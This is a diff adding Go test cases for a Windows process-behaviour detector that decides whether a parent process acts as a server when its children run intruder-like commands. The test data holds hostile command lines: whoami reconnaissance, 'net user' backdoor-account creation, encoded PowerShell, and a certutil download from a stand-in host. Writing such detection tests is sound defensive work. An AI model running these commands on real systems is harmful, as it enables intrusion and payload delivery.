@@ -220,6 +220,7 @@ func TestUnnamedManager(t *testing.T) {
 // TestUnknownServers: what behaves as a server, and what does not quite.
 func TestUnknownServers(t *testing.T) {
 	const app, java, svchost = `C:\Program Files\Acme\acme.exe`, `C:\Program Files\Java\jdk-17\bin\java.exe`, `C:\Windows\System32\svchost.exe`
+	const acts = "its children do what intruders do and services do not"
 	const compile = `csc.exe /noconfig @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1\x.cmdline"`
 	for _, tt := range []struct {
 		image, line, user, parent string
@@ -253,6 +254,24 @@ func TestUnknownServers(t *testing.T) {
 		{`D:\Apps\TicketDesk\TicketWeb.exe`, "TicketWeb.exe", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd", ""},
 		{`C:\Program Files\NVIDIA Corporation\NVIDIA Web Helper.exe`, "x", system, services, 0x3e7, "cmd", ""},
 		{`C:\Program Files\Acme\WebHelperService.exe`, "x", system, services, 0x3e7, "cmd", ""},
+		{app, "acme.exe", system, services, 0x3e7, "cmd.exe /c whoami", ""},
+		{app, "acme.exe", system, services, 0x3e7, "cmd.exe /c whoami /priv", acts},
+		{app, "acme.exe", system, services, 0x3e7, "cmd.exe /c whoami & systeminfo", acts},
+		{app, "acme.exe", `CORP\anna`, cmd, 0x5555, "cmd.exe /c whoami /all", ""},
+		{app, "acme.exe", `CORP\backup`, services, 0x5555, "cmd.exe /c net user x P@ss /add", acts},
+		{app, "acme.exe", system, `C:\tools\nssm.exe`, 0x3e7, "cmd.exe /c powershell -enc SQBFAFgAIAAoAGkAdwByACAA", acts},
+		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c powershell -EncodedCommand JABQAHIAbwBnAHIAZQBzAHMA`, ""},
+		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c net accounts`, ""},
+		{app, "acme.exe", system, services, 0x3e7, `cmd.exe /c certutil -addstore Root D:\ca.cer`, ""},
+		{app, "acme.exe", `CORP\anna`, `C:\Windows\explorer.exe`, 0x5555, "cmd.exe /c whoami", ""},
+		{`C:\Program Files\OpenSSH\sshd.exe`, "sshd.exe", system, services, 0x3e7, "cmd.exe /c whoami /all", ""},
+		{`C:\Windows\CCM\CcmExec.exe`, "CcmExec.exe", system, services, 0x3e7, "cmd.exe /c whoami /all", ""},
+		{java, "java -jar tool.jar", `CORP\anna`, cmd, 0x5555, "cmd.exe /c whoami /all", acts},
+		{java, "java -jar agent.jar", system, services, 0x3e7, "cmd.exe /c whoami /all", ""},
+		{java, `java -jar C:\Users\anna\Downloads\a.jar`, `CORP\anna`, cmd, 0x5555, "cmd.exe /c whoami /all", ""},
+		{`C:\Python311\python.exe`, "python job.py", `CORP\anna`, cmd, 0x5555, "cmd.exe /c whoami /all", ""},
+		{`C:\Python311\python.exe`, "python job.py", `CORP\anna`, cmd, 0x5555, `cmd.exe /c certutil -urlcache -f http://203.0.113.9/a a`, acts},
+		{`C:\Program Files\nodejs\node.exe`, "node npm-cli.js install", `CORP\anna`, cmd, 0x5555, `cmd.exe /c certutil -urlcache -f http://203.0.113.9/a a`, ""},
 	} {
 		res := scanRuns(
 			t, run{100, 4, tt.image, tt.line, tt.user, tt.logon, "High", tt.parent, ""},
@@ -263,6 +282,25 @@ func TestUnknownServers(t *testing.T) {
 		}
 		if got := strings.Join(res.FieldValues(processWith(t, res, 200), "WorkerProduct"), " "); got != want {
 			t.Errorf("%s %s, %s, below %s: %q, want %q", tt.image, tt.line, tt.user, tt.parent, got, want)
+		}
+	}
+}
+
+// TestPrintSpooler: it is a server where it starts what printing does not need.
+func TestPrintSpooler(t *testing.T) {
+	const spoolsv = `C:\Windows\System32\spoolsv.exe`
+	for child, want := range map[string]string{
+		"cmd.exe /c net user x P@ss /add":           "Print spooler",
+		"cmd.exe /c whoami":                         "Print spooler",
+		`cmd.exe /c gs.exe C:\Windows\Temp\1.spl`:   "",
+		`cmd.exe /c "C:\Program Files\Red\job.bat"`: "",
+		"cmd.exe /c net start lpdsvc":               "",
+	} {
+		res := scanRuns(
+			t, run{100, 4, spoolsv, spoolsv, system, 0x3e7, "System", services, ""},
+			run{200, 100, cmd, child, system, 0x3e7, "System", spoolsv, ""})
+		if got := strings.Join(res.FieldValues(processWith(t, res, 200), "WorkerProduct"), " "); got != want {
+			t.Errorf("%s: %q, want %q", child, got, want)
 		}
 	}
 }
